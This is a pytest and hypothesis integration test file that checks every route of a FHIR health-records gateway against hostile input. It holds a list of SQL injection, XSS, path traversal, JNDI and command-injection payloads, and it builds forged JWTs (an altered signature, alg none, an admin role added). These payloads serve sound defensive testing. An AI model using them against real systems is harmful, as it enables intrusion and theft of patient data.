"""Hostile input on every route of the FHIR gateway (the property tests of test_hostile_input.py,
extended to HTTP), on one stack for the module.

The routes are read from the running gateway (its HttpServer's routes), so a new route is covered
without touching this file:

- every authenticated route answers no token, a forged one (signature altered), an expired one,
  one for another audience 401 as an OperationOutcome with `WWW-Authenticate: Bearer`; a scoped
  token whose scopes name only a type the route does not serve (`patient/Basic.rs`) 403;
- every route taking a FHIR body answers malformed JSON, JSON that is no resource, and hostile
  headers 400, invalid FHIR 422 naming its FHIRPath, a body over the limit (the gateway's is set
  small here) 413 with or without a Content-Length, another media type 415;
- every search route answers hypothesis-built, injection-shaped parameters (SQL quotes, script,
  paths, NUL, very long, non-Latin) with 400 or a normal searchset holding only the caller's own;
- no answer is a server fault, nothing refused is stored, and no refused request is disclosed
  (no read event in any service's outbox).
"""

from __future__ import annotations

import base64
import json
import os
import re
import sys
import time
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

import aiohttp
import jwt
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from medledger.consent.v1 import consent_service_pb2 as co_pb
from medledger.consent.v1 import consent_service_pb2_grpc as co_grpc
from medledger.identity.v1 import identity_service_pb2 as id_pb
from medledger.identity.v1 import identity_service_pb2_grpc as id_grpc
from medledger.records.v1 import records_service_pb2 as rec_pb
from medledger.records.v1 import records_service_pb2_grpc as rec_grpc
from medledger.types.v1 import vocabulary_pb2 as vocab
from sqlalchemy import func, select

from medledger_audit import event_types
from medledger_devstack.testing import Postgres
from medledger_runtime.events import decode
from medledger_runtime.http_server import HttpRoute
from medledger_runtime.outbox import outbox
from medledger_sdk.channels import make_channel

pytestmark = pytest.mark.timeout(300)

FHIR_JSON = "application/fhir+json"
# The gateway's body limit in this stack: small, so an oversize body is cheap to send.
MAX_BODY = 64 * 1024
# Hypothesis examples per search route (fewer with MEDLEDGER_HOSTILE_EXAMPLES for a quick run).
EXAMPLES = min(40, int(os.environ.get("MEDLEDGER_HOSTILE_EXAMPLES", "40")))
Kind = vocab.PrincipalKind
TREAT = vocab.PurposeOfUse.PURPOSE_OF_USE_TREAT

INJECTIONS = (
    "'; DROP TABLE records; --",
    "' OR 1=1 --",
    "' OR '1'='1",
    "pat_' OR 1=1 --",
    "1; SELECT pg_sleep(30); --",
    "%' UNION SELECT secret_hash FROM principals --",
    '{"$gt": ""}',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow\x00.json",
    "${jndi:ldap://x.example/a}",
    "$(touch /tmp/pwned)",
    "{{7*7}}${7*7}",
    "%s%s%s%n%x",
    "%00",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\\",
    "|",
    "||",
    "http://loinc.org|",
    ",,,",
    "*",
    "null",
    "NaN",
    "-1",
    "1e309",
    "99999999999999999999",
    "ge",
    "ge2021-13-45",
    "\ufeff",
    "\U0010ffff",
    "😀",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    " ",
    "",
)
LONG = ("x" * 5_000, "é" * 2_000, "😀" * 1_000, ("' OR 1=1 --" * 400)[:4_000], "\x00" * 600)
PARAM_NAMES = (
    "patient",
    "subject",
    "_id",
    "_lastUpdated",
    "_count",
    "_summary",
    "_include",
    "_revinclude",
    "_page_token",
    "_cursor",
    "_offset",
    "date",
    "code",
    "category",
    "status",
    "identifier",
    "actor",
    "action",
    "subtype",
    "patient:Patient",
    "code:text",
    "_format",
)
any_text = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40)
hostile_text = st.one_of(st.sampled_from(INJECTIONS), any_text, st.sampled_from(LONG))


def rid() -> str:
    return str(uuid.uuid4())


def as_fhir(principal_id: str) -> str:
    return principal_id.replace("_", "-")


def _b64url(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _flip(text: str, at: int) -> str:
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1 :]


@dataclass(frozen=True)
class Answer:
    status: int
    headers: dict[str, str]
    body: Any


class World:
    """The stack, a patient with records and a consent, their tokens, and every answer seen (a
    plain class: hypothesis prints a dataclass argument whole, tokens and all)."""

    def __init__(
        self,
        stack: Any,
        http: aiohttp.ClientSession,
        patient_id: str,
        doctor_id: str,
        tokens: dict[str, str],
        ids: dict[str, str],
        my_records: Any,
        my_consents: Any,
    ) -> None:
        self.stack, self.http, self.patient_id, self.doctor_id = stack, http, patient_id, doctor_id
        self.tokens, self.ids, self.my_records, self.my_consents = tokens, ids, my_records, my_consents
        self.seen: list[tuple[str, str, int]] = []

    def __repr__(self) -> str:
        return "World(...)"

    @property
    def base(self) -> str:
        return str(self.stack.fhir_base)

    @property
    def routes(self) -> tuple[HttpRoute, ...]:
        assert self.stack.fhir.http is not None
        return tuple(self.stack.fhir.http.routes)

    async def send(
        self,
        method: str,
        url: str,
        *,
        token: str | None = None,
        data: bytes | Any = None,
        headers: dict[str, str] | None = None,
        params: Any = None,
    ) -> Answer:
        sent = dict(headers or {})
        if token is not None:
            sent["Authorization"] = f"Bearer {token}"
        async with self.http.request(method, url, headers=sent, data=data, params=params) as response:
            raw = await response.read()
            try:
                body = json.loads(raw) if raw else None
            except ValueError:
                body = raw
            self.seen.append((method, url[:120], response.status))
            return Answer(response.status, {k.lower(): v for k, v in response.headers.items()}, body)

    def url(self, route: HttpRoute) -> str:
        """The route's path with each variable a value the gateway serves (an existing id)."""
        path = route.path

        def value(match: re.Match[str]) -> str:
            name, _, pattern = match.group(1).partition(":")
            if name == "type":
                choices = pattern.split("|")
                return "Observation" if "Observation" in choices else choices[0]
            if name == "vid":
                return "1"
            if name == "id":
                if "/Consent/" in path:
                    return self.ids["Consent"]
                if "/Patient/" in path:
                    return as_fhir(self.patient_id)
                if "/Provenance/" in path:
                    return f"{self.ids['Observation']}-1"
                return self.ids["Observation"]
            raise AssertionError(f"a route variable this test does not know: {name} in {path}")

        concrete = re.sub(r"\{([^{}]+(?:\{[^{}]*\}[^{}]*)*)\}", value, path)
        return f"http://127.0.0.1:{self.stack.fhir.http_port}{concrete}"


def takes_form(route: HttpRoute) -> bool:
    return route.method == "POST" and route.path.endswith(("/_search", "/$everything"))


def takes_resource(route: HttpRoute) -> bool:
    return route.method in ("POST", "PUT") and not takes_form(route)


def search_query(route: HttpRoute, world: World) -> str:
    """What makes a search whole: its patient's compartment, or the record a Provenance is about."""
    if not is_search(route):
        return ""
    if route.path.endswith("/Provenance"):
        return f"?target=Observation/{world.ids['Observation']}"
    return f"?patient=Patient/{as_fhir(world.patient_id)}"


def is_search(route: HttpRoute) -> bool:
    return not route.public and (
        route.path.endswith(("/_search", "/$everything")) or (route.method == "GET" and "{id" not in route.path)
    )


async def disclosures_since(stack: Any, marks: dict[str, int]) -> list[str]:
    """The successful read events (log action R, outcome 0) each service queued after `marks`."""
    found = []
    for name, runtime in services(stack).items():
        async with runtime.db.connect() as conn:
            rows = (await conn.execute(select(outbox.c.value).where(outbox.c.id > marks[name]))).scalars().all()
        for value in rows:
            event = decode(bytes(value))
            known = event_types.by_event_type(event.type)
            if known is not None and known.audit_event.action == "R" and known.audit_event.outcome == "0":
                found.append(f"{name}: {event.type}")
    return found


async def outbox_marks(stack: Any) -> dict[str, int]:
    marks = {}
    for name, runtime in services(stack).items():
        async with runtime.db.connect() as conn:
            marks[name] = int((await conn.execute(select(func.coalesce(func.max(outbox.c.id), 0)))).scalar_one())
    return marks


def services(stack: Any) -> dict[str, Any]:
    return {"identity": stack.identity, "consent": stack.consent, "records": stack.records, "audit": stack.audit}


@pytest.fixture(scope="module")
async def stack(postgres: Postgres, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
    """conftest's `start_stack`, once for the module, the gateway's body limit small."""
    conftest = sys.modules["tests.integration.conftest"]
    start = conftest.start_stack.__wrapped__(postgres, tmp_path_factory.mktemp("fhir-hostile"))
    async with start(records=True, audit=True, fhir=True, fhir_settings={"http_max_body_bytes": MAX_BODY}) as running:
        yield running


@pytest.fixture(scope="module")
async def world(stack: Any) -> AsyncIterator[World]:
    public = id_grpc.IdentityServiceStub(make_channel(stack.identity_address))
    admin = id_grpc.IdentityServiceStub(stack.admin().channel(stack.identity_address, "medledger.identity"))
    patient = await public.RegisterPatient(
        id_pb.RegisterPatientRequest(
            request_id=rid(),
            fhir_patient=json.dumps(
                {"resourceType": "Patient", "identifier": [{"system": "urn:oid:1.2.3", "value": rid()}]}
            ).encode(),
        )
    )
    org = await admin.RegisterPrincipal(
        id_pb.RegisterPrincipalRequest(request_id=rid(), kind=Kind.PRINCIPAL_KIND_ORGANIZATION)
    )
    doctor = await admin.RegisterPrincipal(
        id_pb.RegisterPrincipalRequest(
            request_id=rid(),
            kind=Kind.PRINCIPAL_KIND_PRACTITIONER,
            organization_id=org.principal.principal_id,
            fhir_resource=json.dumps(
                {"resourceType": "Practitioner", "identifier": [{"system": "urn:npi", "value": rid()}]}
            ).encode(),
        )
    )
    patient_id, doctor_id = patient.principal.principal_id, doctor.principal.principal_id
    await stack.known_to_consent(patient_id, doctor_id)
    me = stack.client(patient_id, patient.client_secret)
    my_records = rec_grpc.RecordsServiceStub(me.channel(f"127.0.0.1:{stack.records.grpc_port}", "medledger.records"))
    my_consents = co_grpc.ConsentServiceStub(me.channel(stack.consent_address, "medledger.consent"))
    granted = await my_consents.GrantConsent(
        co_pb.GrantConsentRequest(
            request_id=rid(),
            patient_id=patient_id,
            grantee_id=doctor_id,
            provision=co_pb.ProvisionType.PROVISION_TYPE_PERMIT,
            actions=[vocab.Action.ACTION_READ],
            purposes=[TREAT],
        )
    )
    observation = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"coding": [{"system": "http://loinc.org", "code": "8867-4"}]},
        "effectiveDateTime": "2021-05-01T10:00:00Z",
        "subject": {"reference": f"Patient/{as_fhir(patient_id)}"},
    }
    put = await my_records.PutRecord(
        rec_pb.PutRecordRequest(
            request_id=rid(),
            patient_id=patient_id,
            category=vocab.DataCategory.DATA_CATEGORY_OBSERVATIONS,
            content=json.dumps(observation).encode(),
            media_type=FHIR_JSON,
            assign_fhir_identity=True,
        )
    )
    valid = await me.token("medledger.fhir")
    # Tokens that must open nothing: identity's own key signs the expired one (it runs in this
    # process), the forged one is a real token with one character of its signature changed.
    signer = stack.identity.handle.tokens.signer
    claims = jwt.decode(valid, options={"verify_signature": False})
    now = int(time.time())
    head, body, signature = valid.split(".")
    scopeless = await public.IssueToken(
        id_pb.IssueTokenRequest(
            principal_id=patient_id,
            client_secret=patient.client_secret,
            audience="medledger.fhir",
            scope="patient/Basic.rs",
        )
    )
    tokens = {
        "valid": valid,
        "forged": f"{head}.{body}.{_flip(signature, 5)}",
        "roles added": f"{head}.{_b64url(json.dumps({**claims, 'roles': ['admin']}).encode())}.{signature}",
        "alg none": f"{_b64url(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{body}.",
        "expired": await signer.sign(
            {**claims, "iat": now - 3600, "nbf": now - 3600, "exp": now - 120, "jti": uuid.uuid4().hex}
        ),
        "another audience": await me.token("medledger.records"),
        "not a JWT": "not-a-token",
        "scopes for another type": scopeless.access_token,
    }
    async with aiohttp.ClientSession() as http:
        world = World(
            stack,
            http,
            patient_id,
            doctor_id,
            tokens,
            {"Observation": as_fhir(put.record_id), "Consent": as_fhir(granted.consent.consent_id)},
            my_records,
            my_consents,
        )
        yield world
        # After every test of the module: no answer was a server fault, and the searches were
        # both refused and answered (the property test reached past the parameter checks).
        faults = [s for s in world.seen if s[2] >= 500]
        assert not faults, faults
        searches = {status for method, url, status in world.seen if method == "GET" and "?" in url}
        assert {200, 400} <= searches, searches


async def stored(world: World) -> tuple[list[str], list[str]]:
    """The patient's records and consents, as the services list them."""
    records = await world.my_records.ListRecords(rec_pb.ListRecordsRequest(patient_id=world.patient_id, page_size=100))
    consents = await world.my_consents.ListConsents(
        co_pb.ListConsentsRequest(patient_id=world.patient_id, page_size=100)
    )
    return (
        sorted(f"{r.record_id}@{r.latest_version}" for r in records.records),
        sorted(f"{c.consent_id}@{c.version}" for c in consents.consents),
    )


def body_for(route: HttpRoute, world: World) -> dict[str, Any]:
    """A valid body for the route, to make a request fail only by what the test changes in it."""
    patient = {"reference": f"Patient/{as_fhir(world.patient_id)}"}
    observation = {"resourceType": "Observation", "status": "final", "code": {"text": "x"}, "subject": patient}
    if "/Consent" in route.path:
        coding = "http://terminology.hl7.org/CodeSystem/"
        return {
            "resourceType": "Consent",
            "status": "active",
            "scope": {"coding": [{"system": coding + "consentscope", "code": "patient-privacy"}]},
            "category": [{"coding": [{"system": "http://loinc.org", "code": "59284-0"}]}],
            "patient": patient,
            "provision": {
                "type": "permit",
                "actor": [
                    {
                        "role": {"coding": [{"system": coding + "v3-ParticipationType", "code": "IRCP"}]},
                        "reference": {"reference": f"Practitioner/{as_fhir(world.doctor_id)}"},
                    }
                ],
            },
            **({"id": world.ids["Consent"]} if route.method == "PUT" else {}),
        }
    if route.path.rstrip("/").endswith("/R4"):
        entry = {
            "fullUrl": f"urn:uuid:{uuid.uuid4()}",
            "resource": observation,
            "request": {"method": "POST", "url": "Observation"},
        }
        return {"resourceType": "Bundle", "type": "transaction", "entry": [entry]}
    if route.method == "PUT":
        return {**observation, "id": world.ids["Observation"]}
    return observation


def with_fields(body: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """The body with `fields` set on its resource (a bundle's: its first entry's)."""
    if body["resourceType"] == "Bundle":
        entry = body["entry"][0]
        return {**body, "entry": [{**entry, "resource": {**entry["resource"], **fields}}]}
    return {**body, **fields}


def invalid_fhir(route: HttpRoute, world: World) -> dict[str, Any]:
    """The route's body made invalid FHIR R4 (a wrong type where FHIR says what it is)."""
    body = body_for(route, world)
    if body["resourceType"] == "Consent":
        return {**body, "status": 5}
    if body["resourceType"] == "Bundle":
        body["entry"][0]["resource"] = {**body["entry"][0]["resource"], "status": 5}
        return body
    return {**body, "status": 5}


async def test_every_route_refuses_missing_forged_expired_and_foreign_tokens(world: World) -> None:
    authenticated = [r for r in world.routes if not r.public]
    assert len(authenticated) >= 10, "the gateway's routes were not found"
    before, marks = await stored(world), await outbox_marks(world.stack)
    for route in authenticated:
        assert await disclosures_since(world.stack, marks) == [], "before " + route.path
        # A search names its patient: the request is whole but for its token.
        url = world.url(route) + search_query(route, world)
        data = json.dumps(body_for(route, world)).encode() if takes_resource(route) else None
        headers = {"Content-Type": FHIR_JSON} if data else {}
        for name, token in [("no token", None), *world.tokens.items()]:
            if name == "valid":
                continue
            got = await world.send(route.method, url, token=token, data=data, headers=headers)
            what = f"{route.method} {route.path} with {name}"
            expected = 403 if name == "scopes for another type" else 401
            assert got.status == expected, (what, got.status, got.body)
            assert isinstance(got.body, dict) and got.body["resourceType"] == "OperationOutcome", what
            if expected == 401:
                assert got.headers.get("www-authenticate", "").startswith("Bearer"), what
        # A malformed Authorization header is no token either.
        for header in ("Bearer", "Basic dXNlcjpwYXNz", f"Bearer {world.tokens['valid']} extra", "bearer  "):
            got = await world.send(route.method, url, data=data, headers={**headers, "Authorization": header})
            assert got.status == 401, (route.path, header, got.status)
    # Public routes (the statement, the SMART configuration) answer whatever token comes along.
    for route in (r for r in world.routes if r.public):
        for token in (None, world.tokens["forged"], world.tokens["not a JWT"]):
            got = await world.send(route.method, world.url(route) + "?_format=' OR 1=1 --", token=token)
            assert got.status == 200 and isinstance(got.body, dict), (route.path, got.status)
    # Hostile ids in every route's path: not found (or refused), never served.
    for route in world.routes:
        assert await disclosures_since(world.stack, marks) == [], "before " + route.path
        if "{id" not in route.path:
            continue
        for hostile in ("' OR 1=1 --", "../../etc/passwd", "\x00", "<script>", "a" * 300, "😀", "rec_" + "0" * 32):
            url = re.sub(
                re.escape(world.ids["Observation"])
                + "|"
                + re.escape(world.ids["Consent"])
                + "|"
                + re.escape(as_fhir(world.patient_id)),
                quote(hostile, safe=""),
                world.url(route),
                count=1,
            )
            data = json.dumps(body_for(route, world)).encode() if takes_resource(route) else None
            got = await world.send(
                route.method,
                url,
                token=world.tokens["valid"],
                data=data,
                headers={"Content-Type": FHIR_JSON} if data else {},
            )
            assert got.status in (400, 404, 405), (route.method, route.path, hostile, got.status, got.body)
    # Disclosures first: listing what is stored is a disclosure itself.
    assert await disclosures_since(world.stack, marks) == []
    assert await stored(world) == before


async def test_every_body_route_refuses_malformed_invalid_oversize_and_mistyped_bodies(world: World) -> None:
    token = world.tokens["valid"]
    before, marks = await stored(world), await outbox_marks(world.stack)
    body_routes = [r for r in world.routes if r.method in ("POST", "PUT")]
    assert any(takes_resource(r) for r in body_routes) and any(takes_form(r) for r in body_routes)
    nested = "[" * 30_000 + "]" * 30_000  # deeper than any parser recursion, within the limit
    for route in body_routes:
        url = world.url(route)
        what = f"{route.method} {route.path}"
        fhir = {"Content-Type": FHIR_JSON}
        oversize = json.dumps({**body_for(route, world), "padding": "x" * MAX_BODY}).encode()
        sized = fhir
        if takes_form(route):
            sized = {"Content-Type": "application/x-www-form-urlencoded"}
            oversize = b"patient=" + b"x" * MAX_BODY
        # Over the limit, with a Content-Length and streamed without one: 413.
        got = await world.send(route.method, url, token=token, data=oversize, headers=sized)
        assert got.status == 413 and got.body["resourceType"] == "OperationOutcome", (what, got.status, got.body)

        async def chunks(whole: bytes = oversize) -> AsyncIterator[bytes]:
            for i in range(0, len(whole), 8192):
                yield whole[i : i + 8192]

        got = await world.send(route.method, url, token=token, data=chunks(), headers=sized)
        assert got.status == 413, (what, "chunked", got.status, got.body)
        if takes_form(route):
            # A search's body is a form: JSON is another media type.
            got = await world.send(route.method, url, token=token, data=b'{"patient": "x"}', headers=fhir)
            assert got.status == 415, (what, got.status, got.body)
            continue
        for media_type in ("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data"):
            got = await world.send(
                route.method,
                url,
                token=token,
                data=json.dumps(body_for(route, world)).encode(),
                headers={"Content-Type": media_type},
            )
            assert got.status == 415 and got.body["resourceType"] == "OperationOutcome", (what, media_type, got.status)
        for malformed in (
            b'{"resourceType": "Observation",',
            b"\xff\xfe\x00{",
            b"",
            b"{'resourceType': 'Observation'}",
            nested.encode(),
            b'{"resourceType": "Observation", "status": "final"' + b" " * 10 + b"}}",
        ):
            got = await world.send(route.method, url, token=token, data=malformed, headers=fhir)
            assert got.status == 400 and got.body["resourceType"] == "OperationOutcome", (
                what,
                malformed[:40],
                got.status,
                got.body,
            )
        for not_a_resource in (
            [1, 2],
            "Observation",
            None,
            7,
            {"status": "final"},
            {"resourceType": 5},
            {"resourceType": ["Observation"]},
        ):
            got = await world.send(
                route.method, url, token=token, data=json.dumps(not_a_resource).encode(), headers=fhir
            )
            assert got.status == 400, (what, not_a_resource, got.status, got.body)
        got = await world.send(
            route.method, url, token=token, data=json.dumps(invalid_fhir(route, world)).encode(), headers=fhir
        )
        assert got.status == 422 and got.body["issue"][0].get("expression"), (what, got.status, got.body)
        # Numbers JSON allows but FHIR does not, and a resource nested past any sense: refused, not a fault.
        valid = body_for(route, world)
        deep: Any = "x"
        for _ in range(900):
            deep = [deep]
        for odd in (
            json.dumps(with_fields(valid, valueQuantity={"value": float("nan")})).encode(),
            json.dumps(with_fields(valid, valueQuantity={"value": float("inf")})).encode(),
            json.dumps(with_fields(valid, valueQuantity={"value": 10**400})).encode(),
            json.dumps(with_fields(valid, note=deep)).encode(),
            json.dumps(with_fields(valid, status="final\x00")).encode(),
        ):
            got = await world.send(route.method, url, token=token, data=odd, headers=fhir)
            assert got.status in (400, 422), (what, odd[:60], got.status, got.body)
        # Hostile headers of a clinical write: refused before anything is written.
        if "{type" not in route.path:
            continue
        for header, value in (
            ("X-Purpose-Of-Use", "' OR 1=1 --"),
            ("X-Purpose-Of-Use", "http://evil.example|TREAT"),
            ("If-Match", 'W/"abc"'),
            ("If-Match", 'W/"99999999999999999999999"'),
            ("If-None-Exist", "x=<script>"),
            ("If-None-Exist", "identifier=urn:x|' OR 1=1 --&_id=../../etc"),
            ("If-None-Exist", "identifier=a|b|c"),
            ("If-None-Exist", "identifier=%00"),
            ("X-Request-Id", "x" * 200),
        ):
            if (header == "If-Match" and route.method != "PUT") or (
                header == "If-None-Exist" and route.method != "POST"
            ):
                continue
            got = await world.send(
                route.method, url, token=token, data=json.dumps(valid).encode(), headers={**fhir, header: value}
            )
            assert got.status == 400, (what, header, value, got.status, got.body)
    # Disclosures first: listing what is stored is a disclosure itself.
    assert await disclosures_since(world.stack, marks) == []
    assert await stored(world) == before


def search_routes() -> list[str]:
    return [
        "GET {type}",
        "POST {type}/_search",
        "GET Consent",
        "GET AuditEvent",
        "GET Provenance",
        "GET $everything",
        "POST $everything",
    ]


@pytest.mark.parametrize("kind", search_routes())
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    print_blob=False,
    suppress_health_check=list(HealthCheck),
)
@given(data=st.data())
async def test_search_routes_answer_injection_shaped_parameters_with_400_or_a_normal_searchset(
    world: World, kind: str, data: st.DataObject
) -> None:
    routes = [r for r in world.routes if is_search(r)]
    method, _, tail = kind.partition(" ")
    matching = [
        r
        for r in routes
        if r.method == method
        and (
            (tail == "{type}" and "{type" in r.path and not r.path.endswith("_search"))
            or (tail == "{type}/_search" and r.path.endswith("/_search"))
            or (tail != "{type}" and tail != "{type}/_search" and r.path.endswith("/" + tail))
        )
    ]
    assert len(matching) == 1, (kind, [r.path for r in routes])
    (route,) = matching
    url = world.url(route)
    if "{type" in route.path:
        choices = re.search(r"\{type:([^}]+)\}", route.path).group(1).split("|")  # type: ignore[union-attr]
        resource_type = data.draw(st.sampled_from(choices), label="type")
        url = url.replace("/Observation", f"/{resource_type}", 1)
    else:
        resource_type = route.path.rsplit("/", 1)[-1]
    me = f"Patient/{as_fhir(world.patient_id)}"
    params: list[tuple[str, str]] = []
    if data.draw(st.booleans(), label="in the patient's compartment"):
        params.append(("patient", me))
    for _ in range(data.draw(st.integers(1, 3), label="parameters")):
        name = data.draw(st.one_of(st.sampled_from(PARAM_NAMES), hostile_text), label="name")
        value = data.draw(
            st.one_of(hostile_text, st.builds(lambda s: me + s, st.sampled_from(INJECTIONS))), label="value"
        )
        params.append((name, value))
    strict = data.draw(st.booleans(), label="strict")
    headers = {"Prefer": "handling=strict"} if strict else {}
    before = await stored(world)
    marks = await outbox_marks(world.stack)
    query = ""
    if method == "POST":
        form = urlencode(params).encode()
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        got = await world.send("POST", url, token=world.tokens["valid"], data=form, headers=headers)
    else:
        query = "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in params)
        got = await world.send("GET", f"{url}?{query}", token=world.tokens["valid"], headers=headers)
    # 403: a well-formed search of another patient's compartment (e.g. `patient=null`), refused.
    assert got.status in (200, 400, 403), (kind, params, got.status, got.body)
    if got.status == 400 and not isinstance(got.body, dict):
        # aiohttp's HTTP parser refuses a request line over 8190 bytes before any route runs.
        assert len(query) > 8190 and b"more than 8190 bytes" in got.body, (kind, params, got.body)
    elif got.status in (400, 403):
        assert got.body["resourceType"] == "OperationOutcome"
        assert await disclosures_since(world.stack, marks) == [], (kind, params)
    else:
        assert got.body["resourceType"] == "Bundle" and got.body["type"] == "searchset"
        # Only the caller's own: their Observation, their Patient, their consent, their log.
        for entry in got.body.get("entry", []):
            resource = entry["resource"]
            own = {
                world.ids["Observation"],
                world.ids["Observation"] + "-1",  # its Provenance
                world.ids["Consent"] + "-v1",
                as_fhir(world.patient_id),
            }
            assert resource["resourceType"] == "AuditEvent" or resource["id"] in own, (kind, params, resource["id"])
    assert await stored(world) == before
